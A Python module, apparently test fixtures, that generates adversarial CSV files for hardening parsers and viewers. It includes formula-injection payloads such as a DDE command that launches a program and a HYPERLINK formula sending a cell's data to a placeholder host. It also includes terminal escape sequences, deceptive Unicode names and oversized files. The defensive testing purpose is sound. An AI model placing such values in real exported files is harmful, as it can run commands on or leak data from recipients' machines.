"""CSV files that break or mislead whoever reads them line by line."""

import csv
import io
from collections.abc import Callable, Mapping

_HEADING = "employee_id,name,rating"

FORMULAS = (
    "=1+1", "=cmd|'/c calc'!A0", '=HYPERLINK("http://example.invalid/?x="&A1,"here")', "+1+1", "-1+1", "@SUM(1+1)",
    "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\uff1d1+1", "=", "-", "'=1+1", "%0A=1+1", '"=1+1', ";=1+1", "|calc", "-Ann",
    "+44 20 7946 0000", "@ann",
)  # fmt: skip
"""What a spreadsheet would work out if it were written as it is."""

MARKUP = (
    "[red]R", "[/]", "[/red]", "[link=http://example.invalid]x[/link]", "[bold", "[@click=app.bell]x", ":smiley:",
    "\\[red]", "[0]", "[a-z]", "[#ff0000]x", "[/nonexistent]",
)  # fmt: skip
"""What a terminal library would take for colours and links."""

_NAMES = (
    "Zoë Müller", "Zoe\u0308 Mu\u0308ller", "Ann Lee", "Ann\u200b Lee", "Ann\u00a0Lee", "Ann  Lee", " Ann Lee ",
    "\u0410nn Lee", "Ann Lee\ufeff", "A\u00adnn Lee", "\u202eeeL nnA", "\u2066Ann\u2069 Lee", "\uff21\uff4e\uff4e",
    "\u0130lker", "i\u0307lker", "\u0131lker", "Straße", "STRASSE", "Z" + "\u0300" * 60, "null", "None", "nan", "N/A",
    "TRUE", "1e5", "001", "", "王伟", "मोहन", "محمد", "O'Neil", "Ann \"Annie\" Lee", "a,b", "-", "👩🏽‍💻", "x" * 300,
)  # fmt: skip
"""Names that are alike, turn round, look like a missing value, or hide something."""

_DATES = ("03/04/2024", "13/04/2024", "04/13/2024", "2024-02-30", "45383", "1e5", "29.02.2023", "0000-00-00")

_ESCAPES = (
    "\x1b[31mRED\x1b[0m", "\x1b[2J\x1b[H", "\x1b]0;title\x07", "\x1b]8;;http://example.invalid\x1b\\click\x1b]8;;\x1b\\",
    "\x9b31mC1", "a\rOVERWRITE", "b\x08\x08c", "a\x07bell",
)  # fmt: skip
"""What a terminal would obey."""


def rows_of(values: tuple[str, ...]) -> bytes:
    """A sound file whose second column has these values."""
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\n", quoting=csv.QUOTE_ALL)
    writer.writerow(_HEADING.split(","))
    writer.writerows([f"E{number:03}", value, 3] for number, value in enumerate(values))
    return out.getvalue().encode()


def lines(*rows: str, encoding: str = "utf-8", end: str = "\n") -> bytes:
    """The heading and these lines."""
    return "".join(f"{line}{end}" for line in (_HEADING, *rows)).encode(encoding)


def quote_within_escapes() -> bytes:
    """Commands for a terminal, and in line 12 a quote within a quoted field."""
    return rows_of(_ESCAPES) + b'E008,plain,3\nE009,"\x1bP$q"p\x1b\\",3\n'


def quote_never_closed() -> bytes:
    """A quote opens in line 2 and takes in everything to the end."""
    return lines('E1,"Ada,3', *(f"E{number},Bob,3" for number in range(2, 20_000)))


def quotes_alone() -> bytes:
    """Two thousand lines that open a quote: dialects are guessed forever."""
    return b'"aaaaaaaaaaaaaaaaaaaa\n' * 2_000


TEXTS: Mapping[str, Callable[[], bytes]] = {
    "names.csv": lambda: rows_of(_NAMES),
    "formulas.csv": lambda: rows_of(FORMULAS),
    "terminal_markup.csv": lambda: rows_of(MARKUP),
    "quote_within_escapes.csv": quote_within_escapes,
    "zero_byte.csv": lambda: lines("E1,Ad\0a,3"),
    "utf_16.csv": lambda: lines("E1,Zoë,3", encoding="utf-16"),
    "utf_8_marked.csv": lambda: lines("E1,Zoë,3", encoding="utf-8-sig"),
    "two_encodings.csv": lambda: lines("E1,Zoë,3") + "E2,Zoë,3\n".encode("latin-1"),
    "quote_never_closed.csv": quote_never_closed,
    "field_of_200_kb.csv": lambda: lines(f"E1,{'A' * 200_000},3"),
    "field_of_2_mb.csv": lambda: lines(f"E1,{'A' * 2_000_000},3"),
    "quote_open_for_2_mb.csv": lambda: lines('E1,"A,3', *("E2,B,3" for _ in range(300_000))),
    "uneven_rows.csv": lambda: lines("E1,Ada", "E2,Bob,3,extra,more", "", ",,,", "E3"),
    "ends_of_old_macs.csv": lambda: lines("E1,Ada,3", end="\r"),
    "wide.csv": lambda: b"," * 400_000 + b"x\n",
    "heading_only.csv": lines,
    "empty.csv": bytes,
    "quotes_alone.csv": quotes_alone,
    "separator_stated.csv": lambda: b"sep=;\nemployee_id;name\nE1;Ada\n",
    "impossible_utf_8.csv": lambda: lines("E1,Ada,3") + b"E2,\xc0\xaf\xed\xa0\x80\xf8\x88\x80\x80\x80,3\n",
    "blank_lines.csv": lambda: lines() + b"\n" * 900_000,
    "dates.csv": lambda: rows_of(_DATES),
}
